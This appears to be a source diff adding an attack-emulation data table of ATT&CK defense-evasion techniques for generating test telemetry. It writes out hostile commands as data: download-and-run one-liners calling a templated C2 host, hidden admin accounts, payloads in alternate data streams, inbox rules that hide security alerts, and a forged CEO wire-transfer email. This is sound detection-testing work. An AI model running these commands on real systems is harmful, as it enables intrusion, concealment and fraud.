@@ -1,0 +1,200 @@
+import { t, v } from "../dsl";
+
+/** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. (continued) */
+export const defenseEvasion3B = [
+  t("T1564.002", "Hidden users", "An account hidden from the logon screen via SpecialAccounts\\UserList.", [
+    v(
+      "reg-userlist",
+      [
+        {
+          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v support /t REG_DWORD /d 0 /f',
+          reg: [
+            [
+              "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList",
+              "support",
+              "0",
+              "REG_DWORD",
+            ],
+          ],
+        },
+      ],
+      { elevated: true },
+    ),
+    v(
+      "dollar-account",
+      [
+        {
+          cmd: "net user admin$ P@ss{{n}}! /add",
+          then: [{ id: "a", kind: "account.create", user: "admin$", local: true }],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t("T1564.003", "Hidden window", "PowerShell -WindowStyle Hidden and Start-Process -WindowStyle Hidden.", [
+    v("ps-hidden", [
+      "powershell.exe -WindowStyle hidden -NoProfile -ExecutionPolicy Bypass -File {{appdata}}\\{{rand}}.ps1",
+    ]),
+    v(
+      "start-process-hidden",
+      [
+        { ps: "Start-Process -WindowStyle Hidden -FilePath C:\\ProgramData\\{{rand}}.exe" },
+        { cmd: "C:\\ProgramData\\{{rand}}.exe", parent: "sh" },
+      ],
+      { shell: "ps" },
+    ),
+    v("conhost-headless", ["conhost.exe --headless powershell.exe -c iex(iwr http://{{c2}}/h)"]),
+  ]),
+  t("T1564.004", "NTFS file attributes", "Payloads stored in alternate data streams and run from them.", [
+    v("type-to-ads", [
+      {
+        cmd: "cmd.exe /c type {{tmp}}\\{{rand}}.exe > {{appdata}}\\desktop.ini:{{rand}}.exe",
+        streams: [["{{appdata}}\\desktop.ini", "{{rand}}.exe"]],
+      },
+    ]),
+    v(
+      "set-content-stream",
+      [
+        {
+          ps: "Set-Content -Path $env:APPDATA\\log.txt -Stream payload -Value $b64",
+          streams: [["{{appdata}}\\log.txt", "payload"]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+    v("wmic-ads", ['wmic process call create "{{appdata}}\\desktop.ini:{{rand}}.exe"']),
+  ]),
+  t("T1564.005", "Hidden file system", "A VHD mounted hidden with diskpart.", [
+    v("diskpart", ["diskpart /s {{tmp}}\\{{rand}}.txt"], { elevated: true }),
+  ]),
+  t("T1564.006", "Run virtual instance", "A headless VirtualBox VM running the payload (Ragnar Locker).", [
+    v(
+      "vboxmanage",
+      ['"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe" startvm micro --type headless'],
+      { elevated: true },
+    ),
+    v("wsl", ['wsl.exe -e /bin/bash -c "curl -s http://{{c2}}/x | sh"']),
+  ]),
+  t("T1564.007", "VBA stomping", "A document with stomped p-code opened in Office.", [
+    v(
+      "stomped-doc",
+      [
+        {
+          cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{{downloads}}\\{{rand}}.doc"`,
+          parent: "@explorer",
+          as: "w",
+        },
+        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "w" },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1564.008", "Email hiding rules", "An inbox rule moving security mails to a hidden folder.", [
+    v(
+      "new-inboxrule",
+      [
+        {
+          ps: "New-InboxRule -Name '.' -SubjectContainsWords 'password','security','alert' -MoveToFolder 'RSS Subscriptions' -MarkAsRead $true",
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t(
+    "T1564.010",
+    "Process argument spoofing",
+    "A process started suspended with fake arguments then rewritten.",
+    [
+      v("spoofed-args", [
+        { cmd: "{{tools}}\\{{name}}.exe", as: "l" },
+        { cmd: 'C:\\Windows\\System32\\cmd.exe /c "echo this is fine"', parent: "l" },
+      ]),
+    ],
+  ),
+  t("T1564.011", "Ignore process interrupts", "nohup-like detachment: start /b with no console.", [
+    v("start-b", ["cmd.exe /c start /b {{tmp}}\\{{rand}}.exe"]),
+  ]),
+  t("T1564.012", "File/path exclusions", "Payload placed in a Defender-excluded path.", [
+    v(
+      "excluded-path",
+      [
+        { ps: "Get-MpPreference | Select -ExpandProperty ExclusionPath" },
+        {
+          cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.exe "C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"',
+          parent: "sh",
+          files: ["C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"],
+        },
+      ],
+      { shell: "ps", elevated: true },
+    ),
+  ]),
+  t("T1620", "Reflective code loading", "Assembly.Load of downloaded bytes in PowerShell.", [
+    v(
+      "assembly-load",
+      [
+        {
+          ps: "$b = (New-Object Net.WebClient).DownloadData('https://{{c2}}/{{rand}}.bin'); [System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @(,[string[]]@()))",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+    v("execute-assembly", [
+      {
+        cmd: "C:\\Windows\\System32\\rundll32.exe",
+        as: "sac",
+        loads: ["C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"],
+        net: [["{{c2}}", 443]],
+      },
+    ]),
+  ]),
+  t("T1622", "Debugger evasion", "IsDebuggerPresent checks and debug-port queries by the payload.", [
+    v("checks", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
+  ]),
+  t(
+    "T1656",
+    "Impersonation",
+    "A help-desk pretext; on the host, a remote support tool installed from a link.",
+    [
+      v(
+        "quickassist",
+        [
+          {
+            cmd: '"C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.32.0_x64__8wekyb3d8bbwe\\Microsoft.RemoteAssistance.QuickAssist\\QuickAssist.exe"',
+            parent: "@explorer",
+            net: [["remoteassistance.support.services.microsoft.com", 443]],
+          },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
+  t("T1672", "Email spoofing", "Mail sent with a forged sender through an open relay from the host.", [
+    v(
+      "send-mailmessage",
+      [
+        {
+          ps: "Send-MailMessage -From 'ceo@{{dns}}' -To 'finance@{{dns}}' -Subject 'Urgent wire' -SmtpServer {{srvip}} -Body 'Please process today.'",
+          net: [["@server", 25]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1678", "Delay execution", "Execution delayed with timeout/ping/Start-Sleep.", [
+    v("timeout", ["timeout /t 300 /nobreak", "{{tmp}}\\{{rand}}.exe"]),
+    v("start-sleep", [{ ps: "Start-Sleep -Seconds 600; Start-Process $env:TEMP\\{{rand}}.exe" }], {
+      shell: "ps",
+    }),
+  ]),
+  t(
+    "T1679",
+    "Selective exclusion",
+    "Ransomware skipping system folders; seen as enumeration with exclusions.",
+    [
+      v("exclusions", [
+        { cmd: '{{tools}}\\{{name}}.exe -path C:\\ -skip Windows,"Program Files",ProgramData' },
+      ]),
+    ],
+  ),
+];
